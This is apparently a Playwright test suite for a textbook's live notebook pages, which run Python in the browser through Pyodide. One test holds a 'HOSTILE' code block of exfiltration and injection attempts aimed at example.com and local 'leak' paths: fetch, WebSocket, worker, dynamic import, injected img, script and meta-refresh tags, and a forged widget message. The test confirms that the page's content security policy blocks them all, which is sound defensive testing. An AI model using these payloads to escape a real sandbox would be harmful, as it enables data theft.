"""Live pages as a reader meets them: Python in the browser, no server behind it, nothing asked of anyone."""

from __future__ import annotations

import mimetypes
import re

import pytest

from book.live import policy
from interconnect_lab import exercises, labs
from tools import browser
from tools.browser import ROOT

CHAPTERS = sorted(path.stem for path in (ROOT / "notebooks").glob("[0-9][0-9]_*.ipynb"))
FIRST = f"notebooks/{CHAPTERS[0]}.html"
PICTURE = "img.lab-picture"
READING = ".lab-reading [role=status]"


@pytest.fixture
def page(chrome, address):
    page = watched(chrome, address)
    yield page
    page.context.close()


@pytest.fixture(scope="module", params=CHAPTERS)
def live(request, chrome, address):
    """One live page for each chapter."""
    page = watched(chrome, address)
    browser.come_alive(page, f"{address}notebooks/{request.param}.html")
    page.chapter = f"chapter{request.param[:2]}"
    yield page
    page.context.close()


def watched(chrome, address):
    """A page in a context of its own that keeps what it complains of and whom it asks."""
    page = chrome.new_context(viewport={"width": 1200, "height": 900}, base_url=address).new_page()
    page.complaints, page.requests = [], []
    page.on("console", lambda said: said.type == "error" and page.complaints.append(said.text))
    page.on("pageerror", lambda error: page.complaints.append(str(error)))
    page.on("requestfailed", lambda request: page.complaints.append(f"{request.url}: {request.failure}"))
    page.context.on("request", lambda request: page.requests.append(request.url))
    return page


def wait_until_other(locator, attribute, before):
    """Wait until an attribute of the one element has another value than before."""
    escaped = before.replace("\\", "\\\\").replace('"', '\\"')
    locator.and_(locator.page.locator(f':not([{attribute}="{escaped}"])')).wait_for(timeout=30_000)


# every lab on every page


def test_a_live_page_asks_nobody_else_and_complains_of_nothing(live, address):
    assert live.complaints == []
    assert [url for url in live.requests if not url.startswith((address, "blob:", "data:"))] == []


def test_every_lab_of_the_chapter_is_on_its_page_and_alive(live):
    names = [lab.get_attribute("data-lab") for lab in live.locator(".live-output .lab").all()]
    assert set(names) == set(labs.LABS[live.chapter])


def test_every_lab_moves_by_key_and_its_picture_and_reading_follow(live):
    for lab in live.locator(".live-output .lab").all():
        picture, reading = lab.locator(PICTURE), lab.locator(READING).first
        drawn, said = picture.get_attribute("src"), reading.inner_text()
        control = lab.locator("[role=slider]:visible, select:visible").first
        control.focus()
        live.keyboard.press("ArrowRight" if control.get_attribute("role") == "slider" else "ArrowDown")
        wait_until_other(picture, "src", drawn)
        name = lab.get_attribute("data-lab")
        assert reading.inner_text() != said, name
        assert picture.get_attribute("alt") == reading.text_content(), name


def test_every_slider_follows_the_mouse(live):
    for lab in live.locator(".live-output .lab:has([role=slider])").all():
        drawn = lab.locator(PICTURE).get_attribute("src")
        times = browser.drag_times(live, lab, drags=3)
        assert len(times) == 3
        assert lab.locator(PICTURE).get_attribute("src") != drawn


def test_every_control_has_a_name(live):
    nameless = [
        control.evaluate("control => control.outerHTML")
        for control in live.locator(".live-output").locator("[role=slider], select, input, textarea").all()
        if not control.evaluate(NAME)
    ]
    assert nameless == []


NAME = """control => control.getAttribute('aria-label') || control.labels?.[0]?.textContent"""


def test_exercises_know_wrong_trap_and_right(live):
    exercise = next(one for one in exercises.chapter(int(live.chapter[-2:])) if one.kind == "quantity")
    answer = live.locator(f"#exercise-{exercise.name}").locator(
        "xpath=ancestor::*[contains(@class, 'exercise-answer')]"
    )
    verdict = answer.locator(".lab-reading [role=status]")

    def said_to(text):
        answer.locator("input[type=text]").fill(text)
        answer.locator("input[type=text]").press("Tab")
        answer.get_by_role("button", name="Check").click()
        expected = exercise.check(text)
        words = re.sub(r"\W+", " ", re.sub("<[^>]*>", "", expected.message)).split()[:4]
        verdict.filter(has_text=re.compile(r"\W+".join(map(re.escape, words)))).wait_for(timeout=20_000)
        return verdict.inner_text()

    trap = exercise.traps[0]
    assert said_to("7e40").startswith("Not yet.")
    assert said_to(str(trap.answer)).startswith("Not yet.")
    assert said_to(str(exercise.answer)).startswith("Right.")


# one page's life


def test_the_button_brings_the_page_to_life_and_the_choice_is_remembered(page):
    page.goto(FIRST)
    assert page.locator("body").get_attribute("data-live") == "static"
    page.get_by_role("button", name="Run this page live").click()
    page.wait_for_selector("body[data-live=ready]", timeout=90_000)
    page.goto(f"notebooks/{CHAPTERS[2]}.html")
    page.wait_for_selector("body[data-live=ready]", timeout=90_000)
    page.get_by_role("button", name="Stop").click()
    page.goto(FIRST)
    page.wait_for_load_state("networkidle")
    assert page.locator("body").get_attribute("data-live") == "static"


def test_a_link_opens_a_lab_in_its_state_and_a_lab_gives_that_link(page, address):
    size_sweep = labs.size_sweep()
    browser.come_alive(page, f"{address}notebooks/{CHAPTERS[1]}.html{size_sweep.set(latency_us=20).link}")
    lab = page.locator(".lab-size_sweep")
    assert lab.locator(READING).first.text_content() == size_sweep.reading
    lab.get_by_role("button", name="Save or share").click()
    link = lab.get_by_role("link", name="Link to this state")
    assert size_sweep.link[1:] in link.get_attribute("href")
    with page.expect_download() as download:
        lab.get_by_role("link", name="Numbers (CSV)").click()
    assert download.value.path().read_text() == size_sweep.csv()


def test_a_link_to_what_a_lab_does_not_offer_says_so(page, address):
    browser.come_alive(page, f"{address}notebooks/{CHAPTERS[1]}.html?size_sweep.latency_us=-3")
    assert "latency_us of size_sweep cannot be -3.0" in page.locator(".live-said").inner_text()


@pytest.fixture
def first(page, address):
    browser.come_alive(page, address + FIRST)
    return page


def cell_of(page, text):
    return page.locator("div.cell", has_text=text).first


def edit(page, cell, source):
    """Replace what stands in a cell, and run it."""
    if not cell.locator(".cm-content").count():
        cell.get_by_role("button", name="Edit").click()
    cell.locator(".cm-content").click()
    page.keyboard.press("ControlOrMeta+A")
    page.keyboard.insert_text(source)
    cell.get_by_role("button", name="Run", exact=True).click()


def test_a_cell_is_edited_broken_and_mended(first):
    cell = cell_of(first, "fmt_bytes")
    edit(first, cell, "print(1")
    cell.locator(".cm-content").click()
    first.keyboard.press("ControlOrMeta+End")
    first.keyboard.type(" / 0)")  # by key: the theme would take "/" for its search
    first.keyboard.press("Shift+Enter")
    cell.locator(".live-output", has_text="ZeroDivisionError: division by zero").wait_for()
    assert "kernel.py" not in cell.locator(".live-output").inner_text()
    edit(first, cell, "print('mended', 6 * 7)\n[1, 2]")
    cell.locator(".live-output", has_text="mended 42").wait_for()
    assert "[1, 2]" in cell.locator(".live-output").inner_text()
    cell.get_by_role("button", name="Undo edits").click()
    cell.locator(".live-output", has_text="parameters").wait_for()
    assert first.complaints == []


def test_an_exercise_that_asks_for_a_function_is_solved_in_the_page(first):
    exercise = next(one for one in exercises.chapter(0) if one.kind == "function")
    [function] = re.findall(r"def (\w+)", exercise.signature)
    cell = cell_of(first, f'labs.exercise("{exercise.name}")')
    judge = (
        f'from interconnect_lab import exercises\nprint(bool(exercises.check("{exercise.name}", {function})))'
    )
    edit(first, cell, f"{exercise.signature.splitlines()[0]}\n    return 1.0\n{judge}")
    cell.locator(".live-output", has_text="False").wait_for()
    edit(first, cell, f"{exercise.solution}\n{function} = answer\n{judge}")
    cell.locator(".live-output", has_text="True").wait_for()
    assert first.complaints == []


def test_stop_ends_a_cell_that_never_ends_and_the_page_lives_again(first):
    cell = cell_of(first, "fmt_bytes")
    edit(first, cell, "while True: pass")
    first.locator(".live-said", has_text="Running").wait_for()
    first.get_by_role("button", name="Stop").click()
    assert first.locator("body").get_attribute("data-live") == "stopped"
    first.get_by_role("button", name="Run this page live").click()
    first.locator("body[data-live=ready]").wait_for(timeout=90_000)
    assert first.locator(".live-output .lab").count() >= 2
    assert "while True" not in cell_of(first, "fmt_bytes").inner_text()


def test_reset_starts_the_page_anew(first):
    edit(first, cell_of(first, "fmt_bytes"), "gradients = 'spoilt'")
    first.get_by_role("button", name="Reset", exact=True).first.click()
    first.locator("body[data-live=boot]").wait_for()
    first.locator("body[data-live=ready]").wait_for(timeout=90_000)
    assert "spoilt" not in first.locator("article").inner_text()


HOSTILE = """
from IPython.display import HTML
import ipywidgets, js
attempts = []
def attempt(what):
    try:
        what(); attempts.append("no error")
    except BaseException as error:
        attempts.append(type(error).__name__)
attempt(lambda: js.fetch("/leak-1"))
attempt(lambda: js.fetch("https://example.com/leak-2"))
attempt(lambda: js.XMLHttpRequest.new())
attempt(lambda: js.WebSocket.new("wss://example.com/leak-3"))
attempt(lambda: js.Worker.new("/leak-4.js"))
attempt(lambda: js.eval("import('/leak-5.js')"))
attempt(lambda: js.Function.new("return import('/leak-6.js')")())
attempt(lambda: js.WorkerGlobalScope.prototype.fetch.call(None, "/leak-9"))
attempt(lambda: js.DedicatedWorkerGlobalScope.prototype.fetch.call(None, "/leak-10"))
attempt(lambda: __import__("pyodide.http").http.open_url("/leak-7"))
attempt(lambda: __import__("urllib.request").request.urlopen("https://example.com/leak-8", timeout=3))
leaks = "".join(f"<img src='{place}/leak-{n}.png'>" for n, place in enumerate(("", "https://example.com")))
leaks += "<link rel=stylesheet href=/leak.css><iframe src=/leak.html></iframe><script src=/leak.js></script>"
display(HTML(leaks), ipywidgets.HTML(leaks))
away = "<MeTa http-equiv=refresh content='0;url=/leak-away.html'><link rel=preconnect href=https://example.com>"
display(HTML(away), ipywidgets.HTML(away), ipywidgets.HTML(description=away, description_allow_html=True))
html = ipywidgets.HTML("x")
display(html)
state, data, message = js.Object.new(), js.Object.new(), js.Object.new()
state.value = js.Reflect.construct(js.String, js.Array.of(away))
data.method, data.state, data.buffer_paths = "update", state, js.Array.new()
message.kind, message.comm_id, message.data = "comm_msg", html.comm.comm_id, data
message.metadata, message.buffers = js.Object.new(), js.Array.new()
js.postMessage.call(None, message)
print(len(attempts), "attempts", attempts.count("no error"), "went through")
"""


def test_nothing_leaves_a_page_that_is_ready_whatever_is_typed_or_pasted(page, address, seen):
    browser.come_alive(page, f"{address}notebooks/{CHAPTERS[1]}.html")
    page.requests.clear()
    seen.clear()
    cell = cell_of(page, "import numpy as np")
    edit(page, cell, HOSTILE)
    cell.locator(".live-output", has_text="11 attempts 0 went through").wait_for()
    log = page.locator(".lab-your_log textarea:visible").first
    log.fill('<img src="/leak-log.png"> <img src="https://example.com/leak-log.png">')
    log.press("Tab")
    for lab in page.locator(".live-output .lab").all():
        lab.get_by_role("button", name="Save or share").click()
        lab.get_by_role("link", name="Numbers (CSV)").wait_for()
    assert page.locator("body").get_attribute("data-live") == "ready"
    assert seen == [], "what the server was asked"
    blocked = [said for said in page.complaints if said.endswith(": csp")]
    tried = [url for url in page.requests if not url.startswith(("data:", "blob:"))]
    assert len(tried) == len(blocked) >= 5, "what the browser was asked, and refused"


def test_python_may_come_from_the_one_other_address_that_a_site_names(page, address, site):
    other = "https://cdn.example/full/"
    text = (site / FIRST).read_text(encoding="utf-8").replace("../_static/pyodide/", other)
    guarded = policy.guarded(text, other, policy.handlers(text))
    page.context.route(f"**/{FIRST}*", lambda route: route.fulfill(body=guarded, content_type="text/html"))

    def elsewhere(route):
        file = site / "_static" / "pyodide" / route.request.url.removeprefix(other)
        kind = mimetypes.guess_type(file.name.replace(".mjs", ".js"))[0]
        route.fulfill(path=file, content_type=kind, headers={"Access-Control-Allow-Origin": "*"})

    page.context.route(f"{other}**", elsewhere)
    browser.come_alive(page, address + FIRST)
    foreign = [url for url in page.requests if not url.startswith((address, "blob:", "data:"))]
    assert len(foreign) > 5
    assert all(url.startswith(other) for url in foreign)
    assert page.complaints == []


# what may go wrong


def test_a_browser_without_webassembly_is_told_so(page):
    page.add_init_script("delete globalThis.WebAssembly")
    page.goto(FIRST + "?live=1")
    page.locator("body[data-live=failed]").wait_for()
    assert "no WebAssembly" in page.locator(".live-said").inner_text()
    assert page.locator(".live-more a").get_attribute("href").endswith("offline.html")
    assert page.locator(".lab-still").count() >= 2, "the stills stay"


def test_a_blocked_address_is_named_and_the_button_tries_again(page):
    page.context.route("**/pyodide.mjs", lambda route: route.abort())
    page.goto(FIRST + "?live=1")
    page.locator("body[data-live=failed]").wait_for(timeout=60_000)
    assert "127.0.0.1" in page.locator(".live-said").inner_text()
    page.context.unroute("**/pyodide.mjs")
    page.get_by_role("button", name="Run this page live").click()
    page.locator("body[data-live=ready]").wait_for(timeout=90_000)


def test_a_wheel_that_is_not_the_one_of_the_lock_is_refused(page):
    page.context.route("**/numpy-*.whl", lambda route: route.fulfill(body=b"PK another"))
    page.goto(FIRST + "?live=1")
    page.locator("body[data-live=failed]").wait_for(timeout=60_000)
    assert "could not be loaded" in page.locator(".live-said").inner_text()


def test_a_network_that_swallows_requests_does_not_hang_the_page(page):
    def impatient(route):
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace('"patience": 300000', '"patience": 1500'))

    page.context.route(f"**/{FIRST}*", impatient)
    page.context.route("**/pyodide.mjs", lambda route: None)
    page.goto(FIRST + "?live=1")
    page.locator("body[data-live=failed]").wait_for(timeout=30_000)
    assert "Nothing has arrived" in page.locator(".live-said").inner_text()


def test_memory_that_runs_out_ends_in_words(first):
    edit(first, cell_of(first, "fmt_bytes"), "hoard = []\nwhile True: hoard.append(bytearray(2**28))")
    shown = first.locator(".live-output", has_text="MemoryError").or_(first.locator("body[data-live=failed]"))
    shown.first.wait_for(timeout=60_000)
    assert first.complaints == []
